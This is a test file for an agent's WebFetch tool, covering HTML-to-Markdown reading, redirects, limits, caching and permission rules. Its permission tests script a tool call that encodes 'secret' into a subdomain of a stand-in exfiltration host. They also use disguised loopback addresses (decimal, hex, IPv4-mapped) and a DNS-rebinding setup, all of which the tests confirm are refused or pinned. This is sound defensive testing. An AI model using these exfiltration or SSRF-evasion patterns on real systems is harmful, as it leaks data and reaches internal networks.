/**
 * WebFetch through the agent loop: the model's call goes to a loopback web server, the page is
 * read by the small model (answered by the local Messages API server), and the answer comes back
 * as the tool's result. Also its errors, limits and permission behaviour.
 */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { MessageParam, ToolResultBlockParam } from "@anthropic-ai/sdk/resources/messages";
import type { QueryEvent, UserEvent } from "../../../src/query/events.ts";
import { parseRuleText } from "../../../src/permissions/parseRule.ts";
import type { PermissionRule, RuleBehavior } from "../../../src/permissions/types.ts";
import type { Session } from "../../../src/session/createSession.ts";
import { webFetchNetworkService, type HostAddress } from "../../../src/tools/WebFetchTool/webFetchNetwork.ts";
import { MAX_CONTENT_CHARS, MAX_RESPONSE_BYTES } from "../../../src/tools/WebFetchTool/limits.ts";
import { READER_SYSTEM_PROMPT } from "../../../src/tools/WebFetchTool/prompt.ts";
import type { AskHandler } from "../../../src/permissions/askHandler.ts";
import { modelService } from "../../../src/query/modelAccess.ts";
import { createLoopKit, type LoopKit } from "../../helpers/loopKit.ts";
import { callTool, createTestSession } from "../../helpers/testSession.ts";
import { createCanUseTool } from "../../../src/permissions/createCanUseTool.ts";
import { runToolUse } from "../../../src/pipeline/runToolUse.ts";
import { questionOptions } from "../../../src/terminal/buildQuestionView.ts";
import { toolResultText } from "../../../src/Tool.ts";
import { httpError, textTurn, turn, type RecordedRequest } from "../../helpers/messagesApiServer.ts";
import { html, stalledBody, startPageServer, type PageServer } from "../../helpers/pageServer.ts";

let kit: LoopKit;
let pages: PageServer;
let ttl: string | undefined;
let timeout: string | undefined;

beforeEach(() => {
  pages = startPageServer();
  // Every test fetches afresh unless it turns the cache on itself.
  ttl = process.env.TOOLSHED_WEBFETCH_CACHE_TTL_MS;
  timeout = process.env.TOOLSHED_WEBFETCH_TIMEOUT_MS;
  process.env.TOOLSHED_WEBFETCH_CACHE_TTL_MS = "0";
});

afterEach(async () => {
  await kit?.close();
  await pages.close();
  restore("TOOLSHED_WEBFETCH_CACHE_TTL_MS", ttl);
  restore("TOOLSHED_WEBFETCH_TIMEOUT_MS", timeout);
});

function restore(name: string, value: string | undefined): void {
  if (value === undefined) delete process.env[name];
  else process.env[name] = value;
}

function addRules(session: Session, behavior: RuleBehavior, ...texts: string[]): void {
  const rules: PermissionRule[] = texts.map((text) => {
    const parsed = parseRuleText(text);
    if (!parsed.ok) throw new Error(parsed.reason);
    return { behavior, toolName: parsed.toolName, ruleContent: parsed.ruleContent, source: "session" };
  });
  session.context.setAppState((state) => ({ ...state, toolPermissionContext: { ...state.toolPermissionContext, rules: [...state.toolPermissionContext.rules, ...rules] } }));
}

/** A kit whose session may fetch from the page server (a loopback address, which asks otherwise). */
async function allowedKit(): Promise<LoopKit> {
  const made = await createLoopKit();
  addRules(made.session, "allow", "WebFetch(domain:127.0.0.1)");
  return made;
}

function fetchCall(input: Record<string, unknown>, id = "f1") {
  return turn({ id: "msg_call", content: [{ type: "tool_use", id, name: "WebFetch", input }] });
}

/** The tool_result blocks the loop sent back, in order. */
function results(events: QueryEvent[]): ToolResultBlockParam[] {
  return events
    .filter((event): event is UserEvent => event.type === "user")
    .flatMap((event) => (typeof event.message.content === "string" ? [] : event.message.content))
    .filter((block): block is ToolResultBlockParam => block.type === "tool_result");
}

function textOf(block: ToolResultBlockParam | undefined): string {
  const content = block?.content;
  if (typeof content === "string") return content;
  return (content ?? []).map((part) => (part.type === "text" ? part.text : "")).join("");
}

type Body = { model: string; system?: { text: string }[]; messages: MessageParam[]; tools?: unknown[]; max_tokens: number };
const bodyOf = (request: RecordedRequest | undefined) => request?.body as Body;
const userText = (body: Body) => {
  const content = body.messages[0]?.content;
  return typeof content === "string" ? content : JSON.stringify(content);
};

describe("WebFetch happy path", () => {
  test("fetches the page, turns HTML into Markdown without scripts, styles or navigation, and returns the small model's answer; its usage is counted", async () => {
    kit = await allowedKit();
    pages.route("/docs", () => html(`<html><head><title>Docs</title><style>.x{color:red}</style><script>var secret = 1;</script></head>
      <body><nav><a href="/">Home</a> <a href="/about">About</a></nav><h1>Install</h1><p>Run <code>npm i thing</code>, then read <a href="/guide">the guide</a>.</p></body></html>`));
    kit.server.push(
      fetchCall({ url: `${pages.url}/docs`, prompt: "How do I install it?" }),
      textTurn("Run npm i thing.", { input_tokens: 300, output_tokens: 9 }),
      turn({ id: "msg_final", content: [{ type: "text", text: "It installs with npm." }] }),
    );
    const { events, result } = await kit.run("install?");
    expect(result).toMatchObject({ subtype: "success", result: "It installs with npm." });
    expect(textOf(results(events)[0])).toBe("Run npm i thing.");

    const reader = bodyOf(kit.server.requests[1]);
    expect(reader.model).toBe("claude-haiku-5-5");
    expect(reader.tools).toBeUndefined();
    expect(reader.system?.[0]?.text).toBe(READER_SYSTEM_PROMPT);
    const sent = userText(reader);
    expect(sent).toContain("# Install");
    expect(sent).toContain("Run `npm i thing`, then read [the guide](http://127.0.0.1:");
    expect(sent).toContain("Question: How do I install it?");
    expect(sent).not.toContain("secret");
    expect(sent).not.toContain("color:red");
    expect(sent).not.toContain("About");
    // The small model's request is part of the run's usage and cost.
    expect(result.modelUsage["claude-haiku-5-5"]?.inputTokens).toBe(300);
    expect(result.modelUsage["claude-sonnet-5-5"]).toBeDefined();
    expect(pages.requests[0]?.headers["user-agent"]).toContain("toolshed/");
  });

  test("non-HTML text (JSON) is read as it is", async () => {
    kit = await allowedKit();
    pages.route("/data.json", () => Response.json({ version: "1.2.3" }));
    kit.server.push(fetchCall({ url: `${pages.url}/data.json`, prompt: "version?" }), textTurn("1.2.3"), textTurn("done"));
    await kit.run("go");
    expect(userText(bodyOf(kit.server.requests[1]))).toContain('{"version":"1.2.3"}');
  });

  test("a redirect within the host is followed; one to another host is reported, not followed, and no model reads anything", async () => {
    kit = await allowedKit();
    pages.route("/old", () => new Response(null, { status: 301, headers: { location: "/new" } }));
    pages.route("/new", () => html("<p>new place</p>"));
    pages.route("/away", () => new Response(null, { status: 302, statusText: "Found", headers: { location: "https://elsewhere.example/x" } }));
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: `${pages.url}/old`, prompt: "what?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: `${pages.url}/away`, prompt: "what?" } },
      ] }),
      textTurn("new place it says"),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    const [followed, away] = results(events);
    expect(textOf(followed)).toBe("new place it says");
    expect(textOf(away)).toContain("redirects to another host (302 Found): https://elsewhere.example/x");
    expect(textOf(away)).toContain("call WebFetch again with url: https://elsewhere.example/x");
    expect(away?.is_error).toBeUndefined();
    // Three model requests only: the loop twice and one reader.
    expect(kit.server.requestCount).toBe(3);
    // The two calls run side by side, so only the order within the first is fixed.
    const paths = pages.requests.map((request) => request.path);
    expect([...paths].sort()).toEqual(["/away", "/new", "/old"]);
    expect(paths.indexOf("/old")).toBeLessThan(paths.indexOf("/new"));
  });

  test("a long page is read in windows: the result gives the offset to go on from, and offset reads the next part", async () => {
    kit = await allowedKit();
    const text = `${"a".repeat(MAX_CONTENT_CHARS)}${"b".repeat(1000)}`;
    pages.route("/long.txt", () => new Response(text, { headers: { "content-type": "text/plain" } }));
    kit.server.push(
      fetchCall({ url: `${pages.url}/long.txt`, prompt: "first" }),
      textTurn("all a"),
      fetchCall({ url: `${pages.url}/long.txt`, prompt: "then", offset: MAX_CONTENT_CHARS }, "f2"),
      textTurn("all b"),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    const [first, second] = results(events);
    expect(textOf(first)).toContain(`call WebFetch again with the same url and offset: ${MAX_CONTENT_CHARS}.]`);
    expect(textOf(second)).toBe("all b");
    const secondRead = userText(bodyOf(kit.server.requests[3]));
    expect(secondRead).toContain("b".repeat(1000));
    expect(secondRead).not.toContain("aaaa");
    expect(secondRead).toContain(`characters ${MAX_CONTENT_CHARS} to ${MAX_CONTENT_CHARS + 1000} of ${MAX_CONTENT_CHARS + 1000}`);
  });

  test("the page is kept for a while: a second question about it does not fetch it again", async () => {
    process.env.TOOLSHED_WEBFETCH_CACHE_TTL_MS = "60000";
    kit = await allowedKit();
    pages.route("/cached", () => html("<p>once</p>"));
    kit.server.push(fetchCall({ url: `${pages.url}/cached`, prompt: "1" }), textTurn("one"), fetchCall({ url: `${pages.url}/cached`, prompt: "2" }, "f2"), textTurn("two"), textTurn("done"));
    const { events } = await kit.run("go");
    expect(results(events).map(textOf)).toEqual(["one", "two"]);
    expect(pages.requests.length).toBe(1);
  });
});

describe("WebFetch limits and errors", () => {
  test("a huge body is cut at the byte limit and the reader is told so", async () => {
    kit = await allowedKit();
    pages.route("/huge.txt", () => new Response("x".repeat(MAX_RESPONSE_BYTES + 1000), { headers: { "content-type": "text/plain" } }));
    kit.server.push(fetchCall({ url: `${pages.url}/huge.txt`, prompt: "size?" }), textTurn("big"), textTurn("done"));
    const { events } = await kit.run("go");
    expect(textOf(results(events)[0])).toContain("big");
    expect(userText(bodyOf(kit.server.requests[1]))).toContain("was cut there");
  });

  test("a page that stops sending fails at the deadline instead of waiting forever", async () => {
    process.env.TOOLSHED_WEBFETCH_TIMEOUT_MS = "300";
    kit = await allowedKit();
    pages.route("/slow", () => new Response(stalledBody("<p>start", pages.closed), { headers: { "content-type": "text/html" } }));
    kit.server.push(fetchCall({ url: `${pages.url}/slow`, prompt: "?" }), textTurn("done"));
    const { events } = await kit.run("go");
    const [block] = results(events);
    expect(block?.is_error).toBe(true);
    expect(textOf(block)).toContain("took longer than 0.3 s");
  });

  test("binary content, an HTTP error and a refused connection are errors the model can read", async () => {
    kit = await allowedKit();
    pages.route("/image.png", () => new Response(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0]), { headers: { "content-type": "image/png" } }));
    const closedPort = startPageServer();
    const deadUrl = closedPort.url;
    await closedPort.close();
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: `${pages.url}/image.png`, prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: `${pages.url}/missing`, prompt: "?" } },
        { type: "tool_use", id: "c", name: "WebFetch", input: { url: `${deadUrl}/`, prompt: "?" } },
      ] }),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    const [binary, missing, refused] = results(events);
    expect(binary?.is_error).toBe(true);
    expect(textOf(binary)).toContain("is not a text page (image/png, 7 bytes)");
    expect(textOf(missing)).toContain("answered 404 Not Found");
    expect(textOf(refused)).toContain("Could not connect to 127.0.0.1:");
    // Nothing was worth reading: the loop's two requests only.
    expect(kit.server.requestCount).toBe(2);
  });

  test("bad URLs are refused before anything is fetched", async () => {
    kit = await allowedKit();
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: "not a url", prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: "ftp://example.com/x", prompt: "?" } },
        { type: "tool_use", id: "c", name: "WebFetch", input: { url: "https://user:secret@example.com/", prompt: "?" } },
        { type: "tool_use", id: "d", name: "WebFetch", input: { url: `${pages.url}/`, prompt: "?", offset: -1 } },
      ] }),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    const texts = results(events).map(textOf);
    expect(texts[0]).toContain("is not a valid URL");
    expect(texts[1]).toContain("http and https URLs only");
    expect(texts[2]).toContain("does not send credentials");
    expect(texts[3]).toContain("offset");
    expect(pages.requests.length).toBe(0);
  });

  test("when the small model fails, the result says the page was fetched but could not be read", async () => {
    kit = await allowedKit();
    pages.route("/p", () => html("<p>hello</p>"));
    kit.server.push(fetchCall({ url: `${pages.url}/p`, prompt: "?" }), httpError(400, { message: "bad reader request" }), textTurn("done"));
    const { events } = await kit.run("go");
    const [block] = results(events);
    expect(block?.is_error).toBe(true);
    expect(textOf(block)).toContain("was fetched, but claude-haiku-5-5 could not read it");
    expect(textOf(block)).toContain("bad reader request");
  });
});

describe("WebFetch permissions", () => {
  function resolverOf(kitSession: Session, answers: (hostname: string, call: number) => HostAddress[]): { calls: string[] } {
    const calls: string[] = [];
    kitSession.services.provide(webFetchNetworkService, {
      resolve: async (hostname) => {
        calls.push(hostname);
        return answers(hostname, calls.length);
      },
    });
    return { calls };
  }

  test("a loopback address asks, naming it; with nobody to ask the call is refused with the rule that would allow it", async () => {
    kit = await createLoopKit();
    pages.route("/p", () => html("<p>hi</p>"));
    kit.server.push(fetchCall({ url: `${pages.url}/p`, prompt: "?" }), textTurn("done"));
    const { events, result } = await kit.run("go");
    const text = textOf(results(events)[0]);
    expect(text).toContain("127.0.0.1");
    expect(text).toContain("is a loopback address (this machine)");
    expect(text).toContain('"WebFetch(domain:127.0.0.1)"');
    expect(result.permission_denials.map((denial) => denial.tool_name)).toEqual(["WebFetch"]);
    expect(pages.requests.length).toBe(0);
  });

  test("odd spellings of a loopback address are seen through: decimal, hex, IPv4-mapped IPv6", async () => {
    kit = await createLoopKit();
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: `http://2130706433:${pages.port}/`, prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: `http://0x7f.0.0.1:${pages.port}/`, prompt: "?" } },
        { type: "tool_use", id: "c", name: "WebFetch", input: { url: `http://[::ffff:127.0.0.1]:${pages.port}/`, prompt: "?" } },
      ] }),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    for (const block of results(events)) {
      expect(block.is_error).toBe(true);
      expect(textOf(block)).toContain("loopback address");
    }
    expect(pages.requests.length).toBe(0);
  });

  test("permission is judged before any lookup: a name the model made up reaches no DNS server unless the call is allowed", async () => {
    kit = await createLoopKit();
    const resolver = resolverOf(kit.session, () => [{ address: "93.184.216.34", family: 4 }]);
    addRules(kit.session, "deny", "WebFetch(domain:*.denied.test)");
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: "https://c2VjcmV0.exfil.test/", prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: "https://c2VjcmV0.denied.test/", prompt: "?" } },
      ] }),
      textTurn("done"),
    );
    const { events, result } = await kit.run("go");
    const [asked, denied] = results(events).map(textOf);
    expect(asked).toContain("WebFetch fetches a page from c2vjcmv0.exfil.test");
    expect(asked).toContain('"WebFetch(domain:c2vjcmv0.exfil.test)"');
    expect(denied).toContain("WebFetch(domain:*.denied.test) denies");
    expect(result.permission_denials.map((denial) => denial.tool_use_id)).toEqual(["a", "b"]);
    expect(resolver.calls).toEqual([]);
  });

  test("a domain rule answers the ask, and the fetch connects to the address that was checked even if DNS answers differently later", async () => {
    kit = await createLoopKit();
    addRules(kit.session, "allow", "WebFetch(domain:rebind.localhost)");
    // The check's answer is the page server; any later answer would lead somewhere else entirely.
    const resolver = resolverOf(kit.session, (_, call) => [{ address: call === 1 ? "127.0.0.1" : "10.9.9.9", family: 4 }]);
    pages.route("/p", () => html("<p>pinned page</p>"));
    kit.server.push(fetchCall({ url: `http://rebind.localhost:${pages.port}/p`, prompt: "?" }), textTurn("read it"), textTurn("done"));
    const { events } = await kit.run("go");
    expect(textOf(results(events)[0])).toBe("read it");
    expect(resolver.calls).toEqual(["rebind.localhost"]);
    expect(pages.requests[0]?.host).toBe(`rebind.localhost:${pages.port}`);
  });

  test("a rule allowing the whole tool opens public hosts, not this machine's own network: a local address still asks", async () => {
    kit = await createLoopKit();
    addRules(kit.session, "allow", "WebFetch");
    resolverOf(kit.session, (hostname) => [{ address: hostname === "intranet.test" ? "10.0.0.5" : "93.184.216.34", family: 4 }]);
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: "https://intranet.test/", prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: `${pages.url}/p`, prompt: "?" } },
      ] }),
      textTurn("done"),
    );
    const { events, result } = await kit.run("go");
    const [intranet, loopback] = results(events).map(textOf);
    expect(intranet).toContain("resolves to 10.0.0.5, a private-network address");
    expect(intranet).toContain('"WebFetch(domain:intranet.test)"');
    expect(loopback).toContain("is a loopback address (this machine)");
    expect(result.permission_denials.map((denial) => denial.tool_name)).toEqual(["WebFetch", "WebFetch"]);
    expect(pages.requests.length).toBe(0);
  });

  test("a deny rule wins over the allow for the same host", async () => {
    kit = await allowedKit();
    addRules(kit.session, "deny", "WebFetch(domain:127.0.0.1)");
    kit.server.push(fetchCall({ url: `${pages.url}/p`, prompt: "?" }), textTurn("done"));
    const { events } = await kit.run("go");
    expect(textOf(results(events)[0])).toContain("WebFetch(domain:127.0.0.1) denies");
    expect(pages.requests.length).toBe(0);
  });

  test("a person's yes lets the call through; without a model to read the page it says so", async () => {
    kit = await createLoopKit();
    pages.route("/p", () => html("<p>asked first</p>"));
    const session = await createTestSession({ cwd: kit.folder.path, interactive: true });
    const asked: string[] = [];
    const yes: AskHandler = { interactive: true, ask: async (request) => (asked.push(request.decision.reason), "yes") };
    const withoutModel = await callTool(session.context, "WebFetch", { url: `${pages.url}/p`, prompt: "?" }, yes);
    expect(withoutModel.text).toContain("This session has no model to ask");
    session.services.provide(modelService, kit.model());
    kit.server.push(textTurn("asked and read"));
    const outcome = await callTool(session.context, "WebFetch", { url: `${pages.url}/p`, prompt: "?" }, yes);
    expect(outcome.text).toBe("asked and read");
    expect(asked[0]).toContain("is a loopback address");
    await session.close();
  });
});

describe("WebFetch to a name that leads to this machine's network", () => {
  const fixtures = join(import.meta.dir, "fixtures");
  const tls = () => ({ key: readFileSync(join(fixtures, "pinned-test.key.pem"), "utf8"), cert: readFileSync(join(fixtures, "pinned-test.cert.pem"), "utf8") });

  /** A session whose lookups of any name answer 127.0.0.1, where an https page server for pinned.test listens. */
  async function pinnedSession(options: { interactive?: boolean } = {}): Promise<{ session: Session; lookups: string[] }> {
    const session = await createTestSession({ cwd: kit.folder.path, ...options });
    const lookups: string[] = [];
    session.services.provide(webFetchNetworkService, { resolve: async (hostname) => (lookups.push(hostname), [{ address: "127.0.0.1", family: 4 }]), ca: tls().cert });
    session.services.provide(modelService, kit.model());
    return { session, lookups };
  }

  beforeEach(async () => {
    await pages.close();
    pages = startPageServer({ tls: tls() });
    kit = await createLoopKit();
  });

  test("is asked about a second time once the lookup shows it, naming the address", async () => {
    pages.route("/p", () => html("<p>intranet page</p>"));
    const { session, lookups } = await pinnedSession({ interactive: true });
    const asked: string[] = [];
    const answers: ("yes" | "no")[] = ["yes", "no", "yes", "yes"];
    const person: AskHandler = { interactive: true, ask: async (request) => (asked.push(request.decision.reason), answers.shift() ?? "no") };
    const input = { url: `https://pinned.test:${pages.port}/p`, prompt: "?" };
    const refused = await callTool(session.context, "WebFetch", input, person);
    expect(asked).toEqual([`WebFetch fetches a page from pinned.test:${pages.port}`, `WebFetch fetches a page from pinned.test:${pages.port}, which resolves to 127.0.0.1, a loopback address (this machine)`]);
    expect(refused.stage).toBe("permission");
    expect(refused.text).toContain("the user said no");
    expect(pages.requests.length).toBe(0);
    kit.server.push(textTurn("read the intranet"));
    const fetched = await callTool(session.context, "WebFetch", input, person);
    expect(fetched.text).toBe("read the intranet");
    expect(asked.length).toBe(4);
    expect(pages.requests.length).toBe(1);
    expect(lookups).toEqual(["pinned.test", "pinned.test"]);
    await session.close();
  });

  test("an \"always\" given before the address was known does not answer the address question, which saves nothing; a written rule does", async () => {
    pages.route("/p", () => html("<p>intranet page</p>"));
    const { session } = await pinnedSession({ interactive: true });
    const asked: { reason: string; options: string[] }[] = [];
    const saved: string[][] = [];
    const person: AskHandler = {
      interactive: true,
      ask: async (request) => (asked.push({ reason: request.decision.reason, options: questionOptions(request.decision).map((option) => option.answer) }), "always"),
    };
    const call = () => runToolUse({
      toolUse: { id: `toolu_always_${asked.length}`, name: "WebFetch", input: { url: `https://pinned.test:${pages.port}/p`, prompt: "?" } },
      context: session.context,
      canUseTool: createCanUseTool(person, { saveRules: (_, rules) => saved.push([...rules]) }),
    });
    kit.server.push(textTurn("read once"), textTurn("read twice"), textTurn("read by the written rule"));
    expect(toolResultText((await call()).result)).toBe("read once");
    // The first question, about the name, saved its rule; the second, naming the address, offered and saved nothing.
    expect(asked.map((question) => question.options)).toEqual([["yes", "always", "instead"], ["yes", "instead"]]);
    expect(asked[1]?.reason).toContain("resolves to 127.0.0.1, a loopback address (this machine)");
    expect(saved).toEqual([["WebFetch(domain:pinned.test)"]]);
    // Next call: the saved answer covers the name, not the address, so only the address is asked.
    expect(toolResultText((await call()).result)).toBe("read twice");
    expect(asked.length).toBe(3);
    expect(asked[2]?.reason).toContain("resolves to 127.0.0.1");
    // A rule the person wrote in settings answers it.
    session.context.setAppState((state) => ({ ...state, toolPermissionContext: { ...state.toolPermissionContext, rules: [
      { behavior: "allow", toolName: "WebFetch", ruleContent: "domain:pinned.test", source: "userSettings" }, ...state.toolPermissionContext.rules,
    ] } }));
    expect(toolResultText((await call()).result)).toBe("read by the written rule");
    expect(asked.length).toBe(3);
    await session.close();
  });

  test("a rule naming the host answers both checks; a page cached from it is not handed to a call that may not reach it", async () => {
    process.env.TOOLSHED_WEBFETCH_CACHE_TTL_MS = "60000";
    pages.route("/cached", () => html("<p>internal numbers</p>"));
    const input = () => ({ url: `https://pinned.test:${pages.port}/cached`, prompt: "?" });
    const first = await pinnedSession();
    addRules(first.session, "allow", "WebFetch(domain:pinned.test)");
    kit.server.push(textTurn("first read"));
    expect((await callTool(first.session.context, "WebFetch", input())).text).toBe("first read");
    // The same page, in a session that allows the whole tool but not this host by name.
    const other = await pinnedSession();
    addRules(other.session, "allow", "WebFetch");
    const refused = await callTool(other.session.context, "WebFetch", input());
    expect(refused.stage).toBe("permission");
    expect(refused.text).toContain("resolves to 127.0.0.1, a loopback address (this machine)");
    expect(refused.text).toContain('"WebFetch(domain:pinned.test)"');
    expect(pages.requests.length).toBe(1);
    expect(other.lookups).toEqual([]);
    await Promise.all([first.session.close(), other.session.close()]);
  });
});

describe("WebFetch over https", () => {
  const fixtures = join(import.meta.dir, "fixtures");
  test("a pinned https fetch still verifies the certificate against the host name", async () => {
    const tls = { key: readFileSync(join(fixtures, "pinned-test.key.pem"), "utf8"), cert: readFileSync(join(fixtures, "pinned-test.cert.pem"), "utf8") };
    await pages.close();
    pages = startPageServer({ tls });
    pages.route("/secure", () => html("<p>over tls</p>"));
    kit = await createLoopKit();
    addRules(kit.session, "allow", "WebFetch(domain:pinned.test)", "WebFetch(domain:other.test)");
    kit.session.services.provide(webFetchNetworkService, { resolve: async () => [{ address: "127.0.0.1", family: 4 }], ca: tls.cert });
    kit.server.push(
      turn({ content: [
        { type: "tool_use", id: "a", name: "WebFetch", input: { url: `https://pinned.test:${pages.port}/secure`, prompt: "?" } },
        { type: "tool_use", id: "b", name: "WebFetch", input: { url: `https://other.test:${pages.port}/secure`, prompt: "?" } },
      ] }),
      textTurn("tls page read"),
      textTurn("done"),
    );
    const { events } = await kit.run("go");
    const [good, wrongName] = results(events);
    expect(textOf(good)).toBe("tls page read");
    expect(pages.requests[0]?.host).toBe(`pinned.test:${pages.port}`);
    expect(wrongName?.is_error).toBe(true);
    expect(textOf(wrongName)).toContain("Could not connect to other.test");
  });
});
